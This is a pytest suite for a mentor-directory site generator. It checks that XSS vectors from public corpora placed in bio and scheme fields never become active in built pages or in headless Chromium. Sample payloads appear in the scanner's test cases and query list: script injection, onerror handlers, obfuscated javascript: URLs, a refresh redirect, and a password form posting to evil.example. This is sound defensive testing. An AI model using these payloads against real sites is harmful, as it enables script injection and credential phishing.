"""Hostile content from public XSS corpora, in every place a mentor or scheme lead can write: nothing runs.

Every vector in tests/data/xss_vectors.txt (OWASP, H5SC, DOMPurify, Markdown link forms) goes
into a bio's body and into each text field of the bio and of a scheme. A field that refuses the
vector must report it on that field and stop the build; where it is accepted, the built pages are
parsed as a browser parses them (html5lib, scripting on) and searched for anything active. A
sample of the hostile pages is then opened in headless Chromium, which must raise no dialog and
report no Content-Security-Policy violation.

All vectors share one build: mentor `v001` carries vector 1 in every field that accepts it, and
so on, so the whole corpus costs one site (plus a few small scheme sites), not one build each.
"""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import unicodedata
from dataclasses import dataclass, field
from pathlib import Path
from xml.etree import ElementTree

import html5lib
import pytest
import yaml

from browsing import needs_chromium, served
from conftest import REPO, SCHEME, SITE_YAML, SUB_PATH_URL, THEME, TODAY, bio_text, options_for
from mentordir.build import build
from mentordir.content.config import SiteConfig, read_config
from mentordir.content.fields import FieldReader
from mentordir.content.frontmatter import parse_front_matter
from mentordir.content.load import SchemeSource, SourceFile, Sources
from mentordir.content.markup import ALLOWED_TAGS, render_markdown
from mentordir.model.problems import ContentError, Problem, errors_in
from mentordir.content.validate import validate_content

VECTORS_FILE = Path(__file__).parent / "data" / "xss_vectors.txt"
BASE_PATH = "/my-scheme/"

# The text fields of a bio (matching, schemes, working and grade only take fixed words) and of a
# scheme. `contact.url+` is the vector after "https://example.org/#": the form most likely to be
# accepted, so that the href it lands in is tested and not only the refusal.
BIO_FIELDS = ("name", "pronouns", "specialty", "region", "organisation", "style", "contact.url", "contact.url+",
              "contact.email", "photo", "bio")
SCHEME_FIELDS = ("title", "summary", "audience", "page title", "handbook")
SCHEMES_PER_SITE = 45

HTML, SVG = "http://www.w3.org/1999/xhtml", "http://www.w3.org/2000/svg"
URL_ATTRIBUTES = {"href", "src", "srcset", "action", "formaction", "poster", "background", "data", "dynsrc", "lowsrc",
                  "codebase", "cite", "longdesc", "ping", "manifest", "icon", "xlink:href"}
SAFE_SCHEMES = {"http", "https", "mailto", "tel"}
EMBEDDING_TAGS = {"iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal"}
FORM_TAGS = {"form", "input", "button", "textarea", "select", "option", "isindex", "keygen"}
# The theme's own inline SVGs, by class, with the only elements each may contain: the initials
# avatar, and the capacity page's bar charts (whose labels are escaped text).
THEME_SVG_PARTS = {"avatar": {"svg", "rect", "text"}, "chart__bar": {"svg", "rect"}, "key__swatch": {"svg", "rect"}}


# --- the corpus ---------------------------------------------------------------------------------

def load_vectors(path: Path = VECTORS_FILE) -> list[str]:
    """The vectors in the file, one a line, with its escapes (\\n \\r \\t \\uXXXX \\\\) undone."""
    escapes = {"\\\\": "\\", "\\n": "\n", "\\r": "\r", "\\t": "\t"}
    vectors = []
    for line in path.read_text(encoding="utf-8").split("\n"):
        if not line.strip() or line.startswith("#"):
            continue
        vectors.append(re.sub(r"\\(?:u[0-9A-Fa-f]{4}|[\\nrt])",
                              lambda match: escapes.get(match.group(0)) or chr(int(match.group(0)[2:], 16)), line))
    return vectors


VECTORS = load_vectors()


def yaml_text(value: str) -> str:
    """`value` as a double-quoted YAML scalar, so the field receives exactly these characters."""
    return yaml.safe_dump(value, default_style='"', width=10**9, allow_unicode=True).strip().removesuffix("...").strip()


def bio_with(values: dict[str, str]) -> str:
    """A valid bio with some fields (BIO_FIELDS names) replaced by the given text."""
    contact = {"preferred": "email", "email": "jane.doe@example.org"}
    changes: dict[str, str | None] = {}
    for name, value in values.items():
        if name == "contact.url+":
            contact["url"] = yaml_text("https://example.org/#" + value)
        elif name.startswith("contact."):
            contact[name.removeprefix("contact.")] = yaml_text(value)
        elif name != "bio":
            changes[name] = yaml_text(value)
    changes["contact"] = "".join(f"\n  {key}: {value}" for key, value in contact.items())
    return bio_text(changes, body=values.get("bio", "A hostile bio.") + "\n")


def scheme_files(slug: str, values: dict[str, str], number: int) -> dict[str, str]:
    """A folder scheme (settings page and one more page) with some fields (SCHEME_FIELDS names) replaced."""
    title = yaml_text(values.get("title", f"Scheme {number}"))
    settings = [f"title: {title}"] + [f"{key}: {yaml_text(values[key])}" for key in ("summary", "audience")
                                      if key in values]
    index = "---\n" + "\n".join(settings) + "\n---\n" + values.get("handbook", "About the scheme.") + "\n"
    page = f"---\ntitle: {yaml_text(values.get('page title', 'How pairing works'))}\norder: 1\n---\nMore.\n"
    return {f"content/schemes/{slug}/index.md": index, f"content/schemes/{slug}/pairing.md": page}


# Specialty and region open to any text: with the default vocabularies a hostile value would be
# refused by the check and never reach a page, so these fields would not be tested at all.
XSS_SITE_YAML = SITE_YAML + "specialties: any\nregions: any\n"


def site_config() -> SiteConfig:
    """The settings of every mini-site here (conftest's SITE_YAML, vocabularies open), read as `check` reads them."""
    tree, problems = parse_front_matter(XSS_SITE_YAML, "content/site.yaml", first_line=1, what="the settings")
    assert tree is not None and not problems
    return read_config(FieldReader("content/site.yaml", tree, problems))


CONFIG = site_config()
RETURNERS = SchemeSource(slug="returners", settings=SourceFile(path=Path("returners.md"),
                         file="content/schemes/returners.md", slug="returners", data=SCHEME.encode()), pages=())


def in_memory(name: str, text: str) -> SourceFile:
    """A content file that was never written to disk."""
    return SourceFile(path=Path(name), file=name, slug=Path(name).stem, data=text.encode("utf-8"))


def bio_problems(text: str) -> list[Problem]:
    """The errors `check` finds in one bio, beside the returners scheme."""
    sources = Sources(mentors=(in_memory("content/mentors/v.md", text),), photos={}, schemes=(RETURNERS,))
    return errors_in(validate_content(sources, CONFIG, TODAY)[1])


def scheme_problems(files: dict[str, str]) -> list[Problem]:
    """The errors `check` finds in one folder scheme."""
    settings, *pages = [in_memory(name, text) for name, text in files.items()]
    sources = Sources(mentors=(), photos={}, schemes=(SchemeSource(slug="s", settings=settings, pages=tuple(pages)),))
    return errors_in(validate_content(sources, CONFIG, TODAY)[1])


@dataclass
class Verdicts:
    """Which fields took which vectors, and what the others said."""

    accepted: dict[str, list[int]] = field(default_factory=dict)
    """Field name to the numbers of the vectors it accepted."""
    refused: dict[tuple[int, str], list[Problem]] = field(default_factory=dict)
    """(vector number, field) to the errors reported."""

    def took(self, number: int) -> list[str]:
        """The fields that accepted vector `number`."""
        return [name for name, numbers in self.accepted.items() if number in numbers]


@pytest.fixture(scope="module")
def verdicts() -> Verdicts:
    """Every vector tried alone in every bio and scheme field."""
    result = Verdicts()
    for number, vector in enumerate(VECTORS, start=1):
        for name in BIO_FIELDS:
            found = bio_problems(bio_with({name: vector}))
            if found:
                result.refused[(number, name)] = found
            else:
                result.accepted.setdefault(name, []).append(number)
        for name in SCHEME_FIELDS:
            found = scheme_problems(scheme_files("s", {name: vector}, number))
            if found:
                result.refused[(number, "scheme " + name)] = found
            else:
                result.accepted.setdefault("scheme " + name, []).append(number)
    return result


# --- reading pages as a browser does --------------------------------------------------------------

def parse_page(html: str) -> ElementTree.Element:
    """Parse a page with a spec-compliant HTML parser, scripting on, as a browser would."""
    parser = html5lib.HTMLParser(tree=html5lib.getTreeBuilder("etree"), namespaceHTMLElements=True)
    return parser.parse(html, scripting=True)


def split_name(name: str) -> tuple[str, str]:
    """(namespace, local name) of an ElementTree tag or attribute name."""
    if name.startswith("{"):
        namespace, _, local = name[1:].partition("}")
        return namespace, local
    return "", name


def url_scheme(value: str) -> str | None:
    """The scheme a browser would act on, after its own clean-up; None for a relative URL.

    The URL parser strips leading and trailing C0 controls and spaces and deletes every tab and
    line break first (WHATWG URL), which is how `jav&#x09;ascript:` comes alive; the HTML parser
    has already decoded character references.
    """
    cleaned = re.sub(r"[\t\n\r]", "", value.strip("".join(map(chr, range(0x21)))))
    match = re.match(r"([A-Za-z][A-Za-z0-9+.-]*):", cleaned)
    return match.group(1).lower() if match else None


def page_kind(path: str) -> str:
    """What template made a page, from its path in the site."""
    if path.startswith("mentors/"):
        return "profile"
    if path.startswith("schemes/"):
        return "handbook"
    if path.startswith("booklet/"):  # every scheme's booklet is made by the one template
        return "booklet"
    return path.removesuffix(".html").removesuffix("/index")


@dataclass(frozen=True)
class Baseline:
    """What the theme itself puts on each kind of page, built from harmless content."""

    tags: dict[str, set[tuple[str, str]]]
    """(namespace, tag) of every element on each kind of page."""
    forms: dict[str, int]
    """How many <form> elements each kind of page has."""
    controls: dict[str, set[tuple[str, str, str]]]
    """(tag, type, name) of every form control on each kind of page: a content-made login form has others."""
    assets: set[bytes]
    """The SHA-256 of every file in the theme's static folder."""


def theme_asset_digests() -> set[bytes]:
    """SHA-256 of every file the theme ships, so a script can be told apart from content."""
    return {hashlib.sha256(path.read_bytes()).digest() for path in (THEME / "static").rglob("*") if path.is_file()}


def active_content(out: Path, path: str, baseline: Baseline) -> list[str]:
    """Everything on one built page that could run, load, navigate or restyle, as `page: what`."""
    found: list[str] = []
    kind = page_kind(path)
    document = parse_page((out / path).read_text(encoding="utf-8"))
    head = document.find(f"{{{HTML}}}head")
    in_head = {id(element) for element in head.iter()} if head is not None else set()
    head_children = [child for child in head if isinstance(child.tag, str)] if head is not None else []
    if not head_children or split_name(head_children[0].tag)[1] != "meta" or \
            head_children[0].get("http-equiv", "").lower() != "content-security-policy":
        found.append("the Content-Security-Policy is not the first element in <head>")
    forms = 0
    avatar_parts: set[int] = set()
    for element in document.iter():
        if not isinstance(element.tag, str):
            continue  # a comment
        namespace, tag = split_name(element.tag)
        where = f"<{tag}>" if namespace == HTML else f"<{tag}> ({namespace})"
        classes = set(element.get("class", "").split())
        if tag == "svg" and namespace == SVG and classes & THEME_SVG_PARTS.keys():
            allowed = set().union(*(THEME_SVG_PARTS[name] for name in classes & THEME_SVG_PARTS.keys()))
            parts = list(element.iter())
            if all(isinstance(part.tag, str) and split_name(part.tag) in {(SVG, name) for name in allowed}
                   for part in parts):
                avatar_parts |= {id(part) for part in parts}
        if namespace != HTML and id(element) not in avatar_parts:
            found.append(f"{where}: SVG or MathML content that is not one of the theme's own SVGs")
        elif namespace == HTML and (namespace, tag) not in baseline.tags.get(kind, set()) | \
                {(HTML, name) for name in ALLOWED_TAGS}:
            found.append(f"{where}: an element the theme does not use and the bio allowlist does not allow")
        if tag == "script":
            source = element.get("src")
            target = out / source.removeprefix(BASE_PATH) if source and source.startswith(BASE_PATH) else None
            if (element.text or "").strip() or target is None or not target.is_file() or \
                    hashlib.sha256(target.read_bytes()).digest() not in baseline.assets:
                found.append(f"{where}: a script that is not one of the theme's own files ({source!r})")
        elif tag in EMBEDDING_TAGS:
            found.append(f"{where}: embeds or re-bases the page")
        elif tag == "style":
            found.append(f"{where}: an inline style sheet")
        elif tag in ("meta", "link") and id(element) not in in_head:
            found.append(f"{where}: outside <head>")
        elif tag == "meta" and element.get("http-equiv", "").strip().lower() not in ("", "content-security-policy"):
            found.append(f"{where}: http-equiv={element.get('http-equiv')!r}")
        if tag == "form" and namespace == HTML:
            forms += 1
        elif tag in FORM_TAGS and namespace == HTML and control(element) not in baseline.controls.get(kind, set()):
            found.append(f"{where}: a form control the theme does not have here {control(element)}")
        for name, value in element.attrib.items():
            attribute = split_name(name)[1].lower()
            if attribute.startswith("on"):
                found.append(f"{where}: event handler {name}={value!r}")
            elif attribute in ("style", "srcdoc"):
                found.append(f"{where}: {attribute} attribute {value!r}")
            elif attribute in URL_ATTRIBUTES or attribute.endswith(":href"):
                urls = [candidate.split()[0] for candidate in value.split(",") if candidate.split()] \
                    if attribute == "srcset" else [value]
                for url in urls:
                    if url_scheme(url) not in SAFE_SCHEMES | {None}:
                        found.append(f"{where}: {name}={url!r} has the scheme {url_scheme(url)}:")
    if forms != baseline.forms.get(kind, 0):
        found.append(f"{forms} <form> elements where the theme has {baseline.forms.get(kind, 0)}")
    return [f"{path}: {problem}" for problem in found]


def control(element: ElementTree.Element) -> tuple[str, str, str]:
    """What identifies a form control: its tag, type and name."""
    return split_name(element.tag)[1], element.get("type", "").lower(), element.get("name", "")


def scan_site(out: Path, baseline: Baseline) -> list[str]:
    """Active content on every page of a built site, and any JSON that does not parse."""
    found = []
    for page in sorted(out.rglob("*.html")):
        found += active_content(out, page.relative_to(out).as_posix(), baseline)
    for data in sorted(out.rglob("*.json")):
        try:
            json.loads(data.read_text(encoding="utf-8"))
        except ValueError as error:
            found.append(f"{data.relative_to(out)}: not JSON any more ({error})")
    return found


def text_of(element: ElementTree.Element) -> str:
    """The text inside an element, as a browser's textContent."""
    return "".join(element.itertext())


def find_class(document: ElementTree.Element, tag: str, name: str) -> ElementTree.Element:
    """The first `tag` element with `name` among its classes."""
    for element in document.iter(f"{{{HTML}}}{tag}"):
        if name in element.get("class", "").split():
            return element
    raise AssertionError(f"no <{tag} class={name}>")


# --- the sites --------------------------------------------------------------------------------------

def write_site(root: Path, files: dict[str, str]) -> Path:
    """Write a mini-site's content files under `root`."""
    for name, text in files.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
    (root / "content" / "mentors").mkdir(parents=True, exist_ok=True)
    return root


def build_baseline(workspace: Path) -> Baseline:
    """The theme's own elements, from a harmless site with every optional part filled in."""
    bio = bio_text({"organisation": "Example Hospital", "matching": "[parent]",
                    "contact": "\n  preferred: email\n  email: jane.doe@example.org\n  phone: \"07700 900123\"\n"
                               "  url: https://example.org/book"}, body="Hello [there](https://example.org).\n")
    root = write_site(workspace / "site", {"content/site.yaml": XSS_SITE_YAML, "content/schemes/returners.md": SCHEME,
                                           "content/mentors/jane-doe.md": bio,
                                           **scheme_files("harmless", {"summary": "S", "audience": "A"}, 0)})
    build(options_for(root, base_url=SUB_PATH_URL), workspace / "out")
    tags: dict[str, set[tuple[str, str]]] = {}
    forms: dict[str, int] = {}
    controls: dict[str, set[tuple[str, str, str]]] = {}
    for page in sorted((workspace / "out").rglob("*.html")):
        kind = page_kind(page.relative_to(workspace / "out").as_posix())
        elements = [element for element in parse_page(page.read_text()).iter() if isinstance(element.tag, str)]
        tags.setdefault(kind, set()).update(split_name(element.tag) for element in elements)
        forms[kind] = sum(split_name(element.tag) == (HTML, "form") for element in elements)
        controls.setdefault(kind, set()).update(control(element) for element in elements
                                                if split_name(element.tag) in {(HTML, tag) for tag in FORM_TAGS})
    return Baseline(tags=tags, forms=forms, controls=controls, assets=theme_asset_digests())


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Baseline:
    """The theme's own elements on each kind of page."""
    return build_baseline(tmp_path_factory.mktemp("baseline"))


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory, verdicts: Verdicts) -> Path:
    """One mentor per vector, `v001`..., carrying it in every bio field that accepts it."""
    workspace = tmp_path_factory.mktemp("hostile")
    files = {"content/site.yaml": XSS_SITE_YAML, "content/schemes/returners.md": SCHEME}
    for number, vector in enumerate(VECTORS, start=1):
        fields = [name for name in verdicts.took(number) if name in BIO_FIELDS]
        if "contact.url" in fields and "contact.url+" in fields:
            fields.remove("contact.url+")  # one contact.url per bio: the vector as it is wins
        files[f"content/mentors/v{number:03d}.md"] = bio_with({name: vector for name in fields})
    root = write_site(workspace / "site", files)
    build(options_for(root, base_url=SUB_PATH_URL), workspace / "out")
    return workspace / "out"


@pytest.fixture(scope="module")
def hostile_scheme_sites(tmp_path_factory: pytest.TempPathFactory, verdicts: Verdicts) -> list[Path]:
    """Scheme `s001`... carrying vector 1... in every scheme field that accepts it, a few dozen to a site."""
    outs = []
    for first in range(0, len(VECTORS), SCHEMES_PER_SITE):
        workspace = tmp_path_factory.mktemp("hostile-schemes")
        files = {"content/site.yaml": XSS_SITE_YAML}
        for number in range(first + 1, min(first + SCHEMES_PER_SITE, len(VECTORS)) + 1):
            fields = [name.removeprefix("scheme ") for name in verdicts.took(number) if name.startswith("scheme ")]
            files |= scheme_files(f"s{number:03d}", {name: VECTORS[number - 1] for name in fields}, number)
        root = write_site(workspace / "site", files)
        build(options_for(root, base_url=SUB_PATH_URL), workspace / "out")
        outs.append(workspace / "out")
    return outs


# --- the corpus and the refusals --------------------------------------------------------------------

def test_the_corpus_has_at_least_150_vectors_from_the_three_public_sources():
    header = VECTORS_FILE.read_text(encoding="utf-8")
    assert len(VECTORS) >= 150 and len(set(VECTORS)) == len(VECTORS)
    for source in ("OWASP XSS Filter Evasion Cheat Sheet", "cure53/H5SC", "cure53/DOMPurify"):
        assert source in header


def test_the_loader_undoes_exactly_the_documented_escapes(tmp_path):
    corpus = tmp_path / "vectors.txt"
    corpus.write_text("# a comment\n\na\\nb\\tc\\rd\\u2028e\\\\nf\\\\\\\\g\n", encoding="utf-8")
    assert load_vectors(corpus) == ["a\nb\tc\rd\u2028e\\nf\\\\g"]


def test_every_field_that_refuses_a_vector_says_so_on_that_field(verdicts):
    unexplained = []
    for (number, name), problems in verdicts.refused.items():
        field_name = {"bio": "bio", "contact.url+": "contact.url", "scheme handbook": "handbook",
                      "scheme page title": "title"}.get(name, name.removeprefix("scheme "))
        # A vector in a body can also make the whole file unreadable (a NUL byte): no field then.
        body = name in ("bio", "scheme handbook")
        if not any(problem.field == field_name or (body and problem.field is None) for problem in problems):
            unexplained.append(f"vector {number} in {name}: " + "; ".join(p.as_text() for p in problems))
    assert unexplained == []


def test_every_field_accepts_some_vectors_so_the_pages_are_really_tested(verdicts):
    # A field that refused everything would make the page scan prove nothing about it.
    # photo (a bare file name) and contact.email are meant to refuse all of them.
    for name in BIO_FIELDS + tuple("scheme " + name for name in SCHEME_FIELDS):
        if name in ("photo", "contact.email", "contact.url"):
            assert name not in verdicts.accepted, name
        else:
            assert len(verdicts.accepted.get(name, [])) >= (10 if name == "contact.url+" else 30), name


def test_a_bio_with_a_refused_vector_stops_the_build_and_publishes_nothing(make_site, tmp_path, verdicts):
    files: dict[str, str | bytes | None] = {}
    for (number, name), _ in sorted(verdicts.refused.items()):
        if name in BIO_FIELDS:
            files[f"content/mentors/v{number:03d}-{BIO_FIELDS.index(name)}.md"] = bio_with({name: VECTORS[number - 1]})
    files["content/mentors/jane-doe.md"] = bio_text()
    root = make_site(files)
    with pytest.raises(ContentError) as raised:
        build(options_for(root), tmp_path / "out")
    named = {problem.file for problem in errors_in(raised.value.problems)}
    assert len(files) > len(VECTORS) and named == set(files) - {"content/mentors/jane-doe.md"}
    assert not (tmp_path / "out").exists()


# --- the built pages -------------------------------------------------------------------------------

def test_no_page_built_from_hostile_bios_has_active_content(hostile_site, baseline):
    assert len(list((hostile_site / "mentors").iterdir())) == len(VECTORS)
    assert scan_site(hostile_site, baseline) == []


def test_no_page_built_from_hostile_schemes_has_active_content(hostile_scheme_sites, baseline):
    found = []
    for out in hostile_scheme_sites:
        found += scan_site(out, baseline)
    assert sum(len([p for p in (out / "schemes").iterdir() if p.is_dir()]) for out in hostile_scheme_sites) == len(VECTORS)
    assert found == []


def test_hostile_names_styles_pronouns_and_titles_are_shown_as_the_text_written(hostile_site, verdicts):
    shown_wrong = []
    for number, vector in enumerate(VECTORS, start=1):
        took = verdicts.took(number)
        expected = unicodedata.normalize("NFC", vector.strip())
        page = parse_page((hostile_site / f"mentors/v{number:03d}/index.html").read_text(encoding="utf-8"))
        heading = next(page.iter(f"{{{HTML}}}h1"))
        name = (heading.text or "").removesuffix(" ") if "name" in took else "Dr Jane Doe"
        checks = {
            "name": (heading.text or "").removesuffix(" "),
            "style": text_of(find_class(page, "p", "style")),
            "pronouns": text_of(find_class(page, "span", "pronouns")).removeprefix("(").removesuffix(")"),
            "description": next(meta.get("content") for meta in page.iter(f"{{{HTML}}}meta")
                                if meta.get("name") == "description"),
            "title": text_of(next(page.iter(f"{{{HTML}}}title"))),
        }
        style = expected if "style" in took else "I listen first and help you find your own plan."
        wanted = {"description": f"{name}, ST6, {expected if 'specialty' in took else 'Anaesthetics'}. {style}",
                  "title": f"{name} - Test directory"}
        wanted |= {key: expected for key in ("name", "style", "pronouns") if key in took}
        shown_wrong += [f"v{number:03d} {key}: {checks[key]!r} != {value!r}" for key, value in wanted.items()
                        if checks[key] != value]
    assert shown_wrong == []


def test_hostile_filter_labels_and_search_data_stay_text_and_json(hostile_site, verdicts):
    # The directory's filters list every specialty and region, and carry their data as JSON
    # in an attribute; the full-text index is a JSON file (scan_site parses every .json).
    page = parse_page((hostile_site / "index.html").read_text(encoding="utf-8"))
    finder = next((form for form in page.iter(f"{{{HTML}}}form") if form.get("data-filters") is not None), None)
    if finder is None:
        pytest.skip("the directory has no search filters")
    json.loads(finder.get("data-filters"))
    labels = {text_of(label).strip() for label in finder.iter(f"{{{HTML}}}label")}
    for field_name in ("region", "specialty"):
        for number in verdicts.accepted[field_name]:
            assert unicodedata.normalize("NFC", VECTORS[number - 1].strip()) in labels, (field_name, number)


def test_markdown_attribute_lists_are_not_switched_on():
    html = render_markdown('A paragraph\n{: onclick="alert(1)" }\n\n[x](https://example.org){: onmouseover=alert(1)}')
    assert "onclick" not in html.replace("{: onclick", "") and "{: onclick" in html and "onmouseover=alert" in html
    assert all(not name.startswith("on") for element in parse_page(html).iter() for name in element.attrib)


def test_a_telephone_link_holds_only_a_plus_and_digits(make_site, tmp_path):
    phone = '"+44 (0)7700 900-123"'
    root = make_site({"content/mentors/jane-doe.md": bio_text(
        {"contact": f"\n  preferred: phone\n  phone: {phone}"})})
    build(options_for(root), tmp_path / "out")
    page = parse_page((tmp_path / "out" / "mentors" / "jane-doe" / "index.html").read_text(encoding="utf-8"))
    links = [a.get("href") for a in page.iter(f"{{{HTML}}}a") if a.get("href", "").startswith("tel:")]
    assert len(links) == 1 and re.fullmatch(r"tel:\+?[0-9]+", links[0]), links


TEMPLATE_TAG = re.compile(r"""<([A-Za-z][\w:-]*)((?:\s+[^\s"'=<>/]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'=<>`]+))?)*)\s*/?>""")
TEMPLATE_ATTRIBUTE = re.compile(r"""\s+([^\s"'=<>/]+)(?:\s*=\s*("[^"]*"|'[^']*'|[^\s"'=<>`]+))?""")


def test_every_attribute_in_the_templates_is_quoted():
    # Autoescape does not protect an unquoted attribute: `title={{ t }}` with `x onmouseover=...`
    # adds an attribute (SECURITY.md 2.4).
    unquoted = []
    for path in sorted((THEME / "templates").rglob("*.html")):
        text = re.sub(r"\{#.*?#\}|\{%.*?%\}", "", path.read_text(encoding="utf-8"), flags=re.S)
        text = re.sub(r"\{\{.*?\}\}", "X", text, flags=re.S)
        for start in re.finditer(r"<[A-Za-z]", text):
            tag = TEMPLATE_TAG.match(text, start.start())
            if tag is None:
                unquoted.append(f"{path.name}: cannot read the tag at {text[start.start():start.start() + 60]!r}")
                continue
            unquoted += [f"{path.name}: <{tag.group(1)} {match.group(1)}={match.group(2)}>"
                         for match in TEMPLATE_ATTRIBUTE.finditer(tag.group(2))
                         if match.group(2) is not None and match.group(2)[0] not in "\"'"]
    assert unquoted == []


def test_only_sanitised_html_is_ever_marked_safe():
    # SECURITY.md rule 3: no `|safe` or `autoescape false` in templates, and Markup() called in
    # one reviewed place (plan._sanitised, for HTML that went through the nh3 allowlist).
    templates = [f"{path.name}: {match.group(0)}" for path in sorted((THEME / "templates").rglob("*.html"))
                 for match in re.finditer(r"\|\s*safe\b|autoescape\s+false|\{%-?\s*autoescape",
                                          path.read_text(encoding="utf-8"))]
    calls = [f"{path.name}:{number}" for path in sorted((REPO / "generator").rglob("*.py"))
             for number, line in enumerate(path.read_text(encoding="utf-8").split("\n"), start=1)
             if re.search(r"\bMarkup\(|markupsafe\.Markup\(|\bautoescape\s*=\s*False", line)]
    assert templates == [] and len(calls) == 1 and calls[0].startswith("plan.py:"), (templates, calls)


# --- the scanner finds what it looks for --------------------------------------------------------

@pytest.mark.parametrize("injected, finding", [
    ("<script>alert(1)</script>", "a script that is not one of the theme's own files"),
    ('<script src="/my-scheme/evil.js"></script>', "a script that is not one of the theme's own files"),
    ('<img src="x" onerror="alert(1)">', "event handler onerror="),
    ('<a href=" jav&#x09;ascript:alert(1)">x</a>', "has the scheme javascript:"),
    ('<a href="data:text/html,x">x</a>', "has the scheme data:"),
    ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "SVG or MathML content"),
    ('<math><mi>x</mi></math>', "SVG or MathML content"),
    ('<iframe src="https://example.org"></iframe>', "embeds or re-bases the page"),
    ('<object data="x"></object>', "embeds or re-bases the page"),
    ('<base href="https://evil.example/">', "embeds or re-bases the page"),
    ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "outside <head>"),
    ('<form action="https://evil.example/"><input name="password"></form>', "<form> elements where the theme has"),
    ('<input type="password" name="password">', "a form control the theme does not have here"),
    ('<p style="position:fixed">x</p>', "style attribute"),
    ("<style>*{display:none}</style>", "an inline style sheet"),
    ("<marquee>x</marquee>", "an element the theme does not use"),
])
def test_the_scanner_finds_each_kind_of_active_content(hostile_site, baseline, tmp_path, injected, finding):
    page = tmp_path / "mentors" / "v001" / "index.html"
    page.parent.mkdir(parents=True)
    html = (hostile_site / "mentors" / "v001" / "index.html").read_text(encoding="utf-8")
    page.write_text(html.replace('<h2 id="about-heading">', injected + '<h2 id="about-heading">'), encoding="utf-8")
    shutil.copytree(hostile_site / "assets", tmp_path / "assets")
    found = active_content(tmp_path, "mentors/v001/index.html", baseline)
    assert any(finding in problem for problem in found), found


def test_the_scanner_passes_the_clean_page_it_was_given(hostile_site, baseline):
    assert active_content(hostile_site, "mentors/v001/index.html", baseline) == []


def test_a_meta_refresh_in_the_head_is_found(baseline, hostile_site, tmp_path):
    html = (hostile_site / "index.html").read_text(encoding="utf-8")
    (tmp_path / "index.html").write_text(html.replace('<meta charset="utf-8">', '<meta charset="utf-8">'
                                         '<meta http-equiv="refresh" content="0;url=https://evil.example/">'))
    assert any("http-equiv='refresh'" in problem for problem in active_content(tmp_path, "index.html", baseline))


# --- in a browser ---------------------------------------------------------------------------------

# Playwright's init scripts are evaluated by the browser itself (Page.addScriptToEvaluateOnNewDocument),
# not inserted into the page, so the page's CSP does not block them: the control test below proves it.
WATCH_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation",
    (event) => window.__violations.push(`${event.violatedDirective} ${event.blockedURI}`));
"""
CONTROL_PAGES = {
    "csp.html": "<!doctype html><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'self'\">"
                "<p style=\"color:red\">x</p><script>alert('inline script ran')</script>",
    "dialog.html": "<!doctype html><script>alert('a dialog')</script>",
}
HOSTILE_QUERIES = ['<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', "javascript:alert(1)",
                   "</script><script>alert(1)</script>"]


@dataclass
class Watched:
    """What a watched page did: dialogs, CSP violations and script errors, by address."""

    dialogs: list[str] = field(default_factory=list)
    violations: list[str] = field(default_factory=list)
    errors: list[str] = field(default_factory=list)


def visit_all(browser, urls: list[str], search_terms: tuple[str, ...] | list[str] = ()) -> Watched:
    """Open each address, poke at the page (hover, tab, scroll, search) and record what happened."""
    watched = Watched()
    context = browser.new_context(viewport={"width": 390, "height": 800})
    context.add_init_script(WATCH_VIOLATIONS)
    page = context.new_page()
    page.set_default_timeout(15_000)
    page.on("dialog", lambda dialog: (watched.dialogs.append(f"{page.url}: {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: watched.errors.append(f"{page.url}: {error}"))
    for url in urls:
        page.goto(url, wait_until="load")
        # Handles, not nth() locators: a hover may hide or show links (a card's group folding
        # away), and a locator counted before that would then point at a link that is gone.
        for link in [handle for handle in page.query_selector_all("main a") if handle.is_visible()][:30]:
            if link.is_visible():
                link.hover(force=True, timeout=5_000)
        for _ in range(15):
            page.keyboard.press("Tab")
        page.mouse.wheel(0, 20_000)
        search = page.locator("input[type=search]")
        for term in search_terms if search.count() else []:
            search.first.fill(term)
            search.first.press("Enter")
        page.wait_for_timeout(150)
        watched.violations += [f"{url}: {violation}" for violation in page.evaluate("window.__violations || []")]
    context.close()
    return watched


@needs_chromium
def test_the_browser_watch_catches_a_dialog_and_a_csp_violation(browser, tmp_path):
    for name, html in CONTROL_PAGES.items():
        (tmp_path / name).write_text(html)
    with served(tmp_path) as url:
        csp = visit_all(browser, [url + "csp.html"])
        dialog = visit_all(browser, [url + "dialog.html"])
    assert csp.dialogs == [] and len(csp.violations) >= 2
    assert [message.rsplit(": ", 1)[1] for message in dialog.dialogs] == ["a dialog"]


@needs_chromium
def test_hostile_profiles_and_the_directory_raise_no_dialog_and_no_csp_violation(browser, hostile_site, tmp_path):
    shutil.copytree(hostile_site, tmp_path / BASE_PATH.strip("/"))
    with served(tmp_path) as url:
        site = url + BASE_PATH.lstrip("/")
        profiles = [f"{site}mentors/v{number:03d}/" for number in range(1, len(VECTORS) + 1, 11)]
        queries = [f"{site}?q={term}" for term in HOSTILE_QUERIES] + [f"{site}#{HOSTILE_QUERIES[0]}"]
        watched = visit_all(browser, [site, *profiles, *queries, site + "404.html"], search_terms=HOSTILE_QUERIES)
    assert len(profiles) >= 20
    assert (watched.dialogs, watched.violations, watched.errors) == ([], [], [])


@needs_chromium
def test_hostile_handbook_pages_raise_no_dialog_and_no_csp_violation(browser, hostile_scheme_sites, tmp_path):
    out = hostile_scheme_sites[0]
    shutil.copytree(out, tmp_path / BASE_PATH.strip("/"))
    with served(tmp_path) as url:
        site = url + BASE_PATH.lstrip("/")
        pages = [f"{site}schemes/{folder.name}/{sub}" for folder in sorted((out / "schemes").iterdir())[::4]
                 for sub in ("", "pairing/")]
        watched = visit_all(browser, [site, site + "agreement/", *pages])
    assert (watched.dialogs, watched.violations, watched.errors) == ([], [], [])
